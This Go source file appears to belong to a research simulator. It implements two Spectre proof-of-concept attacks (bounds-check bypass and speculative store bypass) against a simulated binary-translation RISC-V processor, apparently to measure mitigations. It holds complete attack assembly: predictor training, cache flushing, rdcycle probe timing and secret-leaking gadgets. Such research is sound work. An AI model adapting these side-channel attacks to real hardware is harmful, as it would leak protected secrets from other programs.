// Package attack implements the paper's two Spectre proof-of-concept
// attacks on the DBT-based processor (Section III), end to end in guest
// code:
//
//   - SpectreV1 exploits trace-based scheduling: after training the DBT
//     profiler to merge the bounds-checked access into a superblock, the
//     dependent loads of Fig. 1 are hoisted above the bounds-check
//     branch and execute with an out-of-bounds index even though the
//     branch exits, pushing a secret-dependent line into the data cache.
//
//   - SpectreV4 exploits memory dependency speculation: the load of
//     Fig. 2 is hoisted above a slow store to an unprovably-aliasing
//     address (the Memory Conflict Buffer later detects the conflict and
//     repairs the architectural state), so it briefly observes a planted
//     malicious index, and its dependent accesses leak the secret
//     through the cache before the rollback.
//
// Both attacks recover the secret with a flush + time side channel:
// flush the probe array, trigger the victim, then time a single probe
// load per candidate value with rdcycle (one victim call per candidate,
// so probes never evict each other). The recovered bytes are written to
// guest memory and read back by the harness.
package attack

import (
	"fmt"
	"math/rand"
	"slices"
	"strings"
	"sync"

	"ghostbusters/internal/dbt"
	"ghostbusters/internal/riscv"
)

// Variant selects the Spectre proof of concept.
type Variant int

const (
	// V1 is the bounds-check-bypass variant (paper Section III-A,
	// corresponding to Spectre v1).
	V1 Variant = iota
	// V4 is the memory-dependency-speculation variant (paper Section
	// III-B, corresponding to Spectre v4 / speculative store bypass).
	V4
)

func (v Variant) String() string {
	if v == V1 {
		return "spectre-v1"
	}
	return "spectre-v4"
}

// FlushMode selects how the attacker evicts the probe array.
type FlushMode int

const (
	// FlushAll uses the whole-cache flush instruction.
	FlushAll FlushMode = iota
	// FlushLineByLine flushes each probe line individually, like the
	// paper's RISC-V attack ("has to perform an explicit line by line
	// flush, which slows down the attack").
	FlushLineByLine
)

// Params configures an attack run.
type Params struct {
	Secret        []byte    // bytes to steal; nil picks a random 8-byte secret
	TrainRounds   int       // victim executions used to train the DBT engine (default 64)
	Flush         FlushMode // how the attacker evicts the probe array
	Seed          int64     // secret generator seed when Secret == nil
	ProtectSecret bool      // read-protect the secret region (architectural reads fault)
}

// Result reports an attack run.
type Result struct {
	Variant   Variant
	Secret    []byte
	Recovered []byte
	// BytesCorrect counts recovered bytes matching the secret.
	BytesCorrect int
	Cycles       uint64
	Stats        dbt.Stats
	// Leakage is the ground-truth side-channel scoreboard: which
	// secret-dependent lines the victim actually pushed into the cache,
	// independent of whether the attacker's timing loop recovered them.
	Leakage *Leakage
	// Audit is the machine-wide provenance audit, non-nil only when the
	// run's dbt.Config had Audit set.
	Audit *dbt.Audit
}

// Success reports full secret recovery.
func (r *Result) Success() bool { return r.BytesCorrect == len(r.Secret) }

func (r *Result) String() string {
	return fmt.Sprintf("%s: %d/%d bytes recovered (spec loads %d, recoveries %d, patterns %d)",
		r.Variant, r.BytesCorrect, len(r.Secret), r.Stats.SpecLoads, r.Stats.Recoveries, r.Stats.PatternsFound)
}

func (p *Params) withDefaults() Params {
	out := *p
	if out.TrainRounds == 0 {
		out.TrainRounds = 64
	}
	if len(out.Secret) == 0 {
		r := rand.New(rand.NewSource(out.Seed + 1))
		out.Secret = make([]byte, 8)
		for i := range out.Secret {
			// Avoid 0x00 (never probed: the benign index) and 0x01 (the
			// argmin default when nothing hits).
			out.Secret[i] = byte(0x10 + r.Intn(0xE0))
		}
	}
	return out
}

// Source renders the attack's guest program as assembly text for the
// given machine configuration (the embedded probe threshold depends on
// the cache timing). It is what Run assembles internally, exported so
// callers can ship the identical attack to a remote simulator (e.g. a
// gbserve run job) or inspect the gadget.
func Source(v Variant, cfg dbt.Config, params Params) (string, error) {
	p := params.withDefaults()
	// A probe latency below this threshold is a cache hit, in both
	// interpreted and translated execution.
	thresh := cfg.Cache.HitLatency + cfg.Cache.MissPenalty/2 + cfg.Interp.BaseCPI
	switch v {
	case V1:
		return buildV1Source(&p, thresh), nil
	case V4:
		return buildV4Source(&p, thresh), nil
	default:
		return "", fmt.Errorf("attack: unknown variant %d", v)
	}
}

// Run executes the attack under the given machine configuration and
// reports how much of the secret leaked. The machine configuration
// controls the mitigation mode; the guest binary is identical across
// modes, exactly like the paper's experiment.
func Run(v Variant, cfg dbt.Config, params Params) (*Result, error) {
	p := params.withDefaults()
	src, err := Source(v, cfg, p)
	if err != nil {
		return nil, err
	}
	prog, err := assemble(src, p.ProtectSecret)
	if err != nil {
		return nil, fmt.Errorf("attack: assembling %s: %w", v, err)
	}
	m, err := dbt.New(cfg)
	if err != nil {
		return nil, err
	}
	// The recovered bytes are copied out below, so the guest image can
	// go back to the spare list as soon as the run is over.
	defer m.Release()
	if err := m.Load(prog); err != nil {
		return nil, err
	}
	sb, err := newScoreboard(prog, p.Secret, cfg.Tracer)
	if err != nil {
		return nil, err
	}
	sb.attach(m)
	if p.ProtectSecret {
		sec, ok := prog.Symbol("secret")
		if !ok {
			return nil, fmt.Errorf("attack: %s guest defines no secret symbol", v)
		}
		m.Mem().Protect(sec, sec+uint64(len(p.Secret)))
	}
	res, err := m.Run()
	if err != nil {
		return nil, fmt.Errorf("attack: %s run: %w", v, err)
	}
	if res.Exit.Code != 0 {
		return nil, fmt.Errorf("attack: %s guest exited with %d", v, res.Exit.Code)
	}
	recAddr, ok := prog.Symbol("recovered")
	if !ok {
		return nil, fmt.Errorf("attack: %s guest defines no recovered symbol", v)
	}
	rec, err := m.Mem().ReadBytes(recAddr, len(p.Secret))
	if err != nil {
		return nil, err
	}
	out := &Result{
		Variant:   v,
		Secret:    p.Secret,
		Recovered: rec,
		Cycles:    res.Cycles,
		Stats:     res.Stats,
		Leakage:   sb.finish(rec),
		Audit:     m.Audit(),
	}
	out.BytesCorrect = out.Leakage.BytesCorrect
	return out, nil
}

// progMemoSize bounds how many assembled programs the memo keeps. A
// Figure 4 sweep needs two, one per variant; the bound is fixed so that
// callers passing many secrets cannot grow the memo.
const progMemoSize = 8

// progMemo holds the programs Run assembled most recently, the oldest
// first. Runs share them: after assembly a program is only read (by
// Machine.Load, Symbol and the scoreboard).
var progMemo struct {
	sync.Mutex
	progs []memoProg
}

// memoProg keys a program by the source text it was assembled from,
// which encodes the variant, the secret, TrainRounds, Flush and the
// cache-derived threshold, and by ProtectSecret, which the text does not
// encode, so that no run is handed a program built for other Params.
type memoProg struct {
	src     string
	protect bool
	prog    *riscv.Program
}

// assemble returns the program of src, from the memo when Run assembled
// it before. A miss assembles under the lock: misses are rare (one per
// distinct program), and concurrent runs of one program then wait for
// it instead of assembling it twice.
func assemble(src string, protect bool) (*riscv.Program, error) {
	progMemo.Lock()
	defer progMemo.Unlock()
	for _, mp := range progMemo.progs {
		if mp.protect == protect && mp.src == src {
			return mp.prog, nil
		}
	}
	prog, err := riscv.Assemble(src)
	if err != nil {
		return nil, err
	}
	if len(progMemo.progs) == progMemoSize {
		progMemo.progs = slices.Delete(progMemo.progs, 0, 1)
	}
	progMemo.progs = append(progMemo.progs, memoProg{src, protect, prog})
	return prog, nil
}

// secretBytesDirective renders the secret as a .byte directive.
func secretBytesDirective(secret []byte) string {
	parts := make([]string, len(secret))
	for i, b := range secret {
		parts[i] = fmt.Sprintf("0x%02x", b)
	}
	return "\t.byte " + strings.Join(parts, ", ")
}

// flushSequence emits the attacker's eviction code. With line-by-line
// flushing, the probe array and the victim's working set are evicted one
// cflush at a time, as in the paper's RISC-V attack ("has to perform an
// explicit line by line flush"). extra lists additional data symbols of
// the victim to evict.
func flushSequence(mode FlushMode, extra ...string) string {
	if mode == FlushAll {
		return "\tcflushall\n"
	}
	s := `	# line-by-line flush of the probe array and victim data
	la t0, arrayVal
	li t1, 512            # 32768 bytes / 64-byte lines
flush_loop:
	cflush t0
	addi t0, t0, 64
	addi t1, t1, -1
	bgtz t1, flush_loop
	la t0, buffer
	cflush t0
`
	for _, sym := range extra {
		s += "\tla t0, " + sym + "\n\tcflush t0\n"
	}
	return s
}

// probeSequence times one probe load of arrayVal[v*128]: a latency below
// THRESH is a cache hit, i.e. the victim speculatively touched this
// candidate's line. Registers: s2 = candidate v, s3 = recovered value.
// Falls through to label probe_next. The threshold works in both
// interpreted and translated execution, so the probe loop is immune to
// the DBT engine re-translating it mid-scan.
const probeSequence = `	la t0, arrayVal
	slli t1, s2, 7
	add t0, t0, t1
	rdcycle t2
	lbu t3, 0(t0)
	rdcycle t4
	sub t5, t4, t2
	li t6, THRESH
	bge t5, t6, probe_next
	mv s3, s2             # hit: the victim cached this candidate
probe_next:
`

// buildV1Source emits the complete Spectre v1 guest program (Fig. 1 plus
// the training, flush, trigger and probe phases).
func buildV1Source(p *Params, thresh uint64) string {
	n := len(p.Secret)
	return fmt.Sprintf(`
	.equ SECLEN, %d
	.equ TRAIN, %d
	.equ THRESH, %d
	.data
size:	.dword 16
buffer:	.space 16
secret:
%s
	.align 6
arrayVal:
	.space 32768
recovered:
	.space SECLEN
	.text
main:
	# Phase 1: train the branch profile and let the DBT engine build
	# the victim superblock with the loads hoisted above the check.
	li s0, 0
train:
	andi a0, s0, 15
	call victim
	addi s0, s0, 1
	li t0, TRAIN
	blt s0, t0, train

	li s1, 0              # secret byte index
attack_byte:
	li s2, 1              # candidate value (0 is the benign index)
	li s3, 1              # recovered value (1 = nothing hit)
probe_v:
	# Phase 2: flush, then trigger with the out-of-bounds index.
%s	la t0, secret
	la t1, buffer
	sub a0, t0, t1
	add a0, a0, s1
	call victim
	# Phase 3: time one probe load for this candidate.
%s	addi s2, s2, 1
	li t6, 256
	blt s2, t6, probe_v
	la t0, recovered
	add t0, t0, s1
	sb s3, 0(t0)
	addi s1, s1, 1
	li t0, SECLEN
	blt s1, t0, attack_byte
	li a0, 0
	ecall

	# The Fig. 1 gadget: bounds check, secret-dependent double load.
victim:
	la t0, size
	ld t0, 0(t0)
	bgeu a0, t0, vdone
	la t1, buffer
	add t1, t1, a0
	lbu t2, 0(t1)         # reads the secret when a0 is out of bounds
	slli t2, t2, 7        # * 128
	la t3, arrayVal
	add t3, t3, t2
	lbu t4, 0(t3)         # pushes a secret-dependent line into the cache
vdone:
	ret
`, n, p.TrainRounds, thresh, secretBytesDirective(p.Secret), flushSequence(p.Flush, "size"), probeSequence)
}

// buildV4Source emits the complete Spectre v4 guest program (Fig. 2: a
// slow store whose address the DBT engine cannot disambiguate, bypassed
// by a speculative load of a planted malicious index).
func buildV4Source(p *Params, thresh uint64) string {
	n := len(p.Secret)
	return fmt.Sprintf(`
	.equ SECLEN, %d
	.equ TRAIN, %d
	.equ THRESH, %d
	.data
addrBuf:
	.space 64
buffer:	.space 16
secret:
%s
	.align 6
arrayVal:
	.space 32768
recovered:
	.space SECLEN
one:	.dword 1
	.text
main:
	# Phase 1: train with a benign planted index so the DBT engine
	# translates the victim with memory speculation.
	li s0, 0
train:
	li a0, 0
	call plant
	call victim
	addi s0, s0, 1
	li t0, TRAIN
	blt s0, t0, train

	li s1, 0
attack_byte:
	li s2, 1
	li s3, 1
probe_v:
%s	la t0, secret
	la t1, buffer
	sub a0, t0, t1
	add a0, a0, s1
	call plant            # addrBuf[0] = malicious index
	call victim
%s	addi s2, s2, 1
	li t6, 256
	blt s2, t6, probe_v
	la t0, recovered
	add t0, t0, s1
	sb s3, 0(t0)
	addi s1, s1, 1
	li t0, SECLEN
	blt s1, t0, attack_byte
	li a0, 0
	ecall

plant:
	la t0, addrBuf
	sd a0, 0(t0)
	ret

	# The Fig. 2 gadget: a store whose value comes off a long
	# computation, followed by a dependent double load. The DBT engine
	# cannot prove the store and the load disjoint (different address
	# registers), so it hoists the load above the store; the MCB later
	# detects the conflict and repairs the architectural state, but the
	# cache already holds the secret-dependent line.
victim:
	la t5, one
	ld t6, 0(t5)
	mul t2, t6, t6        # long computation producing the safe index 0
	mul t2, t2, t6
	mul t2, t2, t6
	mul t2, t2, t6
	mul t2, t2, t6
	mul t2, t2, t6
	sub t2, t2, t6        # 1 - 1 = 0
	la t1, addrBuf
	sd t2, 0(t1)          # addrBuf[j] = safe index (slow)
	la t0, addrBuf
	ld a1, 0(t0)          # speculatively reads the planted index
	la t3, buffer
	add t3, t3, a1
	lbu a2, 0(t3)         # reads the secret
	slli a2, a2, 7
	la t4, arrayVal
	add t4, t4, a2
	lbu a3, 0(t4)         # leaks it through the cache
	ret
`, n, p.TrainRounds, thresh, secretBytesDirective(p.Secret), flushSequence(p.Flush, "addrBuf", "one"), probeSequence)
}
